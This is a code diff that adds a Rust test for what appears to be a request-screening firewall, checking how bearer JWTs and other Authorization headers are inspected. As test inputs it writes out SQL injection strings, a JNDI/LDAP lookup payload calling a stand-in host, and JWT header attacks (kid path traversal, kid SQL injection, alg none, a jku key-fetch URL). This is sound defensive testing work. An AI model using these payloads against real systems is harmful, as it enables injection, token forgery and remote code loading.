@@ -183,6 +183,82 @@ fn head_fields_cover_path_query_cookies_and_headers() {
     );
 }
 
+/// A bearer JWT's header is read before any signature check (`kid` into a path or SQL,
+/// `jku` fetched, `alg: none`): its unsigned part is screened; other credentials, the
+/// signature and encrypted tokens are not.
+#[test]
+fn bearer_jwts_are_screened_without_their_signature() {
+    use base64::Engine as _;
+    let b64 = |s: &str| base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(s);
+    let claims = b64(r#"{"sub":"42","iss":"https://login.example.com/","scope":"openid email"}"#);
+    let jwt = |header: &str, sig: &str| format!("{}.{claims}.{sig}", b64(header));
+    let screened = |authorization: &str| {
+        let uri: http::Uri = "/api/me".parse().unwrap();
+        let mut headers = http::HeaderMap::new();
+        headers.insert("authorization", authorization.parse().unwrap());
+        let head = extract::head_fields(&uri, &headers);
+        let fields: Vec<String> = head
+            .fields
+            .iter()
+            .filter(|f| f.kind == FieldKind::HeaderValue)
+            .map(|f| String::from_utf8_lossy(&f.value).into_owned())
+            .collect();
+        let findings =
+            Engine::builtin().inspect(head.fields, &Policy::default(), &mut Budget::default());
+        (fields, findings.blocks(Policy::default().threshold()))
+    };
+    // A bearer or basic credential that is no token is screened whole.
+    for malformed in [
+        "Bearer AAAAAA'or'1'='1",
+        "Bearer ${jndi:ldap://x.example/a}",
+        "Basic ' union select password from users-- -",
+        "${jndi:ldap://x.example/a}",
+    ] {
+        assert_eq!(screened(malformed), (vec![malformed.to_owned()], true));
+    }
+    let attacks = [
+        r#"{"alg":"HS256","kid":"../../../../../../dev/null"}"#,
+        r#"{"alg":"HS256","kid":"k1' UNION SELECT 'key'-- -"}"#,
+        r#"{"alg":"none","typ":"JWT"}"#,
+        r#"{"alg":"RS256","jku":"http://127.0.0.1:8000/jwks.json"}"#,
+    ];
+    for header in attacks {
+        let token = format!("Bearer {}", jwt(header, "c2lnbmF0dXJl"));
+        let (fields, blocked) = screened(&token);
+        assert!(blocked, "{header}");
+        assert_eq!(fields.len(), 1);
+        assert!(fields[0].ends_with('.') && !fields[0].contains("c2lnbmF0dXJl"));
+    }
+    let legit = [
+        format!(
+            "Bearer {}",
+            jwt(
+                r#"{"alg":"RS256","typ":"JWT","kid":"2024-11-rsa-1"}"#,
+                "c2ln"
+            )
+        ),
+        format!(
+            "bearer {}",
+            jwt(r#"{"alg":"ES256","kid":"a1b2c3"}"#, "c2ln")
+        ),
+    ];
+    for token in &legit {
+        assert!(!screened(token).1, "{token}");
+    }
+    // Not screened at all: credentials that are tokens (base64 of `' or '1'='1` too), an
+    // encrypted JWE, other schemes' parameters.
+    let kid = b64(r#"{"alg":"dir","enc":"A256GCM","kid":"../../etc/passwd"}"#);
+    for other in [
+        "Basic JyBvciAnMSc9JzE=".to_owned(),
+        "Bearer mF_9.B5f-4.1JqM".to_owned(),
+        "Bearer ya29.a0AfH6SMBx~+/abc==".to_owned(),
+        format!("Bearer {kid}.x.y.z.w"),
+        r#"Digest username="a' or 1=1-- ", realm="x", nonce="1", uri="/", response="2""#.to_owned(),
+    ] {
+        assert_eq!(screened(&other), (vec![], false), "{other}");
+    }
+}
+
 #[test]
 fn head_fields_split_pairs_as_servers_do() {
     let uri: http::Uri = "/p?a=1&&b=&=v&flag&c=x=y&d=%20".parse().unwrap();
